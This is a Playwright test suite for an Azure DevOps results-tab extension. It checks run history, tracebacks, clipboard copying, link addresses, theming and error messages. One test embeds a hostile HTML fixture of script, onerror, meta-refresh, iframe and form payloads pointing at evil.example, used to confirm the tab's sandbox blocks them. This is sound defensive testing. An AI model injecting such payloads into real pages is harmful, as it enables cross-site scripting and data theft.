import assert from "node:assert/strict";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { toJUnit } from "../../shared/results/junit.ts";
import { htmlReportType, junitType } from "../../shared/results/report/report-type.ts";
import { statusRecordType } from "../../shared/results/status-record.ts";
import { startWorkspace, type TestWorkspace } from "../harness/workspace.ts";
import { recordOf } from "../shared/results/status-record-of.ts";
import { weatherRun } from "../shared/results/weather-run.ts";
import { openRunPage } from "./azure-devops-page.ts";
import { openChromium } from "./chromium.ts";

const project = "00000000-0000-4000-8000-000000000001";
const builder = path.join(import.meta.dirname, "..", "..", "scripts", "build", "results-tab.mjs");

/** A build as the page of a run passes it to its tabs. The status is 1 for in progress, 2 for completed. */
function pageBuild(id: number, status: 1 | 2 = 2) {
  return { id, buildNumber: `20260302.${id}`, definition: { id: 12 }, project: { id: project }, status };
}

/** Adds a run of the pipeline, with status records that its steps attached. */
function addRun({ emulator }: TestWorkspace, id: number, records: string[], isCompleted = true): void {
  const { builds } = emulator.azureDevOps;
  builds.start({
    id,
    number: `20260302.${id}`,
    definition: { id: 12, name: "weather" },
    planId: `plan-${id}`,
    sourceBranch: "refs/heads/main",
    sourceVersion: "0".repeat(40),
    reason: "manual",
    repository: { id: "weather", name: "weather", type: "TfsGit" },
  });
  for (const [index, record] of records.entries())
    attach({ emulator }, id, { type: statusRecordType, name: `notebooks-${index}.json`, content: record });
  if (isCompleted) builds.finish(id, "succeeded");
}

function attach(
  { emulator }: Pick<TestWorkspace, "emulator">,
  id: number,
  { type, name, content }: { type: string; name: string; content: string },
): void {
  const { builds } = emulator.azureDevOps;
  const place = { timelineId: "timeline", recordId: "record" };
  builds.attach(builds.get(String(id)), { ...place, type, name, content: Buffer.from(content) });
}

describe("results tab in a page of Azure DevOps", () => {
  let browser: Browser;
  let files: Record<string, string>;

  before(async function () {
    const opened = await openChromium();
    if (!opened) return this.skip();
    browser = opened;
    const { resultsTabFiles } = (await import(pathToFileURL(builder).href)) as {
      resultsTabFiles(): Promise<Record<string, string>>;
    };
    files = await resultsTabFiles();
  });
  afterEach(() => Promise.all(browser?.contexts().map((context) => context.close()) ?? []));
  after(() => browser?.close());

  /** Opens the tab of a run in its page. */
  async function openTab(
    workspace: TestWorkspace,
    build: object,
    theme?: Record<string, string>,
    hash?: string,
  ) {
    const opened = await openRunPage(browser, { emulator: workspace.emulator, files, build, theme, hash });
    return { ...opened, tab: opened.page.frameLocator("iframe") };
  }

  it("the results tab in Azure DevOps shows the records of the run, and the history of its notebooks", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 7, [JSON.stringify(recordOf())]);
    addRun(workspace, 8, []);
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const { page, tab, problems } = await openTab(workspace, pageBuild(9));
    await tab.locator(".history tbody tr").first().waitFor();
    assert.match(await tab.locator("h1").innerText(), /20260302\.9/);
    assert.match(await tab.locator(".sentence").innerText(), /^1 of 3 notebooks, 1 of 3 tests failed/);
    const runs = tab.locator(".history .run");
    assert.deepEqual(await runs.allInnerTexts(), ["20260302.7", "20260302.9"]);
    const link = runs.first().getByRole("link");
    assert.match((await link.getAttribute("href"))!, /_build\/results\?buildId=7$/);
    assert.equal(await link.getAttribute("target"), "_blank");
    assert.equal(await page.evaluate("loaded"), "succeeded");
    assert.deepEqual(problems, []);
  });

  it("the results tab in Azure DevOps sends requests to the organization only, with the token of the page", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const { tab, requests } = await openTab(workspace, pageBuild(9));
    await tab.locator("header.page").waitFor();
    const { collectionUrl, accessToken } = workspace.emulator.azureDevOps;
    assert.ok(requests.length >= 2);
    for (const { url, authorization } of requests) {
      assert.ok(url.startsWith(`${collectionUrl}/${project}/_apis/build/builds`), url);
      assert.equal(authorization, `Bearer ${accessToken}`);
    }
  });

  it("the results tab in Azure DevOps reads the attachments again when the build changes", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [], false);
    const { tab, change } = await openTab(workspace, pageBuild(9, 1));
    await tab.getByText("No notebook results yet").waitFor();
    attach(workspace, 9, {
      type: statusRecordType,
      name: "notebooks.json",
      content: JSON.stringify(recordOf()),
    });
    await change(pageBuild(9, 2));
    await tab.locator("header.page").waitFor();
  });

  it("the results tab in Azure DevOps shows the failing cell and its traceback, and copies them although it is in a frame", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    attach(workspace, 9, { type: junitType, name: "notebooks-0.xml", content: toJUnit(weatherRun()) });
    const { page, tab, problems, requests } = await openTab(workspace, pageBuild(9));
    await page.context().grantPermissions(["clipboard-read"], { origin: "https://dev.azure.com" });
    await tab.getByText("Traceback (most recent call last)").waitFor();
    await tab.getByRole("button", { name: "Copy Cell 6 of notebooks/weather-quality" }).click();
    await tab.getByText("Copied").waitFor();
    await page.bringToFront();
    await page.evaluate("focus()");
    assert.equal(
      await page.evaluate("navigator.clipboard.readText()"),
      weatherRun().notebooks![1]!.failingCell!.source,
    );
    await page.waitForLoadState("networkidle");
    assert.equal(requests.filter(({ url }) => url.includes("/attachments/notebook-ops.junit?")).length, 1);
    assert.deepEqual(
      problems.filter((problem) => !/clipboard/i.test(problem)),
      [],
    );
  });

  it("the results tab in Azure DevOps opens at the result that the address of the page names, and copies that address", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const { page, tab, changeHash } = await openTab(workspace, pageBuild(9), undefined, "case-1-3");
    await page.context().grantPermissions(["clipboard-read"], { origin: "https://dev.azure.com" });
    await tab.locator("#case-1-3:visible").waitFor();
    await changeHash("#case-1-1");
    await tab.locator("#case-1-1[open]").waitFor();
    await tab.getByRole("button", { name: "Copy link to notebooks/weather-etl" }).click();
    await tab.getByText("Copied").waitFor();
    await page.evaluate("focus()");
    assert.equal(
      await page.evaluate("navigator.clipboard.readText()"),
      `${workspace.emulator.azureDevOps.collectionUrl}/${project}/_build/results?buildId=9&view=notebook-ops.notebook-ops.results-tab#case-1-1`,
    );
  });

  it("the results tab in Azure DevOps shows branch, commit and who began the run", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const build = {
      ...pageBuild(9),
      sourceBranch: "refs/heads/release/1.4",
      sourceVersion: "1f0c9e2a77aa4be0b6d1",
      requestedFor: { displayName: "Ada Lovelace" },
      reason: 2,
    };
    const { tab } = await openTab(workspace, build);
    const facts = tab.locator(".facts div");
    await facts.first().waitFor();
    const shown = Object.fromEntries((await facts.allInnerTexts()).map((fact) => fact.split(/\n+/)));
    assert.deepEqual(
      { branch: shown.Branch, commit: shown.Commit, by: shown["Begun by"] },
      { branch: "release/1.4", commit: "1f0c9e2a", by: "Ada Lovelace (a push)" },
    );
  });

  it("the results tab in Azure DevOps shows pages that somebody attached as a report, but runs and loads nothing of them", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const output = `<p>output</p><script>parent.hostile = true; fetch("https://evil.example/script")</script>
      <img src="https://evil.example/image" onerror="parent.hostile = true"><link rel="stylesheet" href="https://evil.example/style">
      <meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><iframe src="https://evil.example/frame"></iframe>
      <form action="https://evil.example/form"><button>go</button></form>`;
    const content = `<iframe data-source="notebooks/weather-quality.py" srcdoc="${output.replaceAll('"', "&quot;")}"></iframe>${output}`;
    attach(workspace, 9, { type: htmlReportType, name: "notebooks-0.html", content });
    const { page, tab, requests } = await openTab(workspace, pageBuild(9));
    await tab.locator("#case-1-2").getByText("Notebook with its output").click();
    const frame = tab.frameLocator("#case-1-2 iframe");
    await frame.getByText("output").waitFor();
    await frame.getByRole("button", { name: "go" }).click();
    const frames = await Promise.all(page.frames().map((frame) => frame.evaluate(`"hostile" in window`)));
    assert.deepEqual([...new Set(frames)], [false]);
    assert.deepEqual(
      requests.filter(({ url }) => url.includes("evil")),
      [],
    );
  });

  it("the results tab in Azure DevOps names the task to add if the run has no record", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, []);
    const { tab } = await openTab(workspace, pageBuild(9));
    assert.match(
      await tab.locator(".nothing").innerText(),
      /The tasks DatabricksRunNotebook and NotebookRunTestScenarios attach one/,
    );
  });

  for (const [result, reason] of [
    [2, /^No notebook results\s+The run succeeded without running a notebook/],
    [8, /^No notebook results\s+The run failed before its notebooks ended/],
    [32, /^No notebook results\s+The run was cancelled before its notebooks ended/],
  ] as const)
    it(`the results tab in Azure DevOps says why it is empty if the run ended with the result ${result}`, async () => {
      await using workspace = await startWorkspace();
      addRun(workspace, 9, []);
      const { tab } = await openTab(workspace, { ...pageBuild(9), result });
      assert.match(await tab.locator(".nothing").innerText(), reason);
    });

  it("the results tab in Azure DevOps says in one sentence why it shows nothing if the run cannot be read", async () => {
    await using workspace = await startWorkspace();
    const { tab } = await openTab(workspace, pageBuild(9));
    assert.equal(
      await tab.getByRole("alert").locator("li").innerText(),
      "Could not read the attachments of run 20260302.9: Azure DevOps returned 404; check that the run has not been deleted.",
    );
  });

  it("the results tab in Azure DevOps does not read a sign-in page as results", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, []);
    await workspace.declareFault({
      match: { path: "attachments" },
      when: "before",
      then: { status: 203, body: "<html>Sign in</html>" },
    });
    const { tab } = await openTab(workspace, pageBuild(9));
    assert.match(
      await tab.getByRole("alert").innerText(),
      /returned 203; sign in again and reload the page\./,
    );
  });

  it("the results tab in Azure DevOps shows the results although the history cannot be read", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    await workspace.declareFault({ match: { path: "builds$" }, when: "before", then: { status: 500 } });
    const { tab } = await openTab(workspace, pageBuild(9));
    assert.match(
      await tab.getByRole("alert").innerText(),
      /^The history is incomplete\s+Could not read the last runs of the pipeline: Azure DevOps returned 500; reload the page later\./,
    );
    assert.equal(await tab.locator(".result").count(), 5);
  });

  it("the results tab in Azure DevOps follows the theme of Azure DevOps", async () => {
    await using workspace = await startWorkspace();
    addRun(workspace, 9, [JSON.stringify(recordOf())]);
    const dark = {
      "background-color": "rgba(32, 31, 30, 1)",
      "text-primary-color": "rgba(255, 255, 255, 0.86)",
    };
    const { tab } = await openTab(workspace, pageBuild(9), dark);
    await tab.locator("header.page").waitFor();
    assert.equal(await tab.locator("html").getAttribute("data-scheme"), "dark");
    const card = await tab
      .locator(".results")
      .evaluate(
        (section) =>
          (
            globalThis as unknown as { getComputedStyle(element: unknown): { backgroundColor: string } }
          ).getComputedStyle(section).backgroundColor,
      );
    assert.equal(card, "rgb(32, 31, 30)");
  });
});
